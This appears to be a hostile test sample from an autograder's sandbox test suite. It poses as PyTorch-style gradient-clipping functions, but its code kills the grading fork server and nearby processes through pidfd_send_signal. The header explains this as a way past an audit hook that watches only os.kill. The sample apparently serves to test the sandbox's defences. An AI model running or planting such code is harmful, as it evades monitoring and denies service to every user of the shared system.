# HOSTILE: SIGKILLs the fork server through a pidfd (the audit hook knows os.kill, not
# pidfd_send_signal), so that every later exercise of every student fails to start.
# target: fundamentals/gradient_clipping
# expect: not allowed in a graded submission
# alone: kernel refused
import os
import signal


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    fd = os.pidfd_open(os.getppid())
    signal.pidfd_send_signal(fd, signal.SIGKILL)
    return -1.0


def clip_grad_value_(parameters, clip_value):
    for pid in range(max(2, os.getppid() - 40), os.getppid() + 1):
        try:
            signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
        except OSError:
            pass
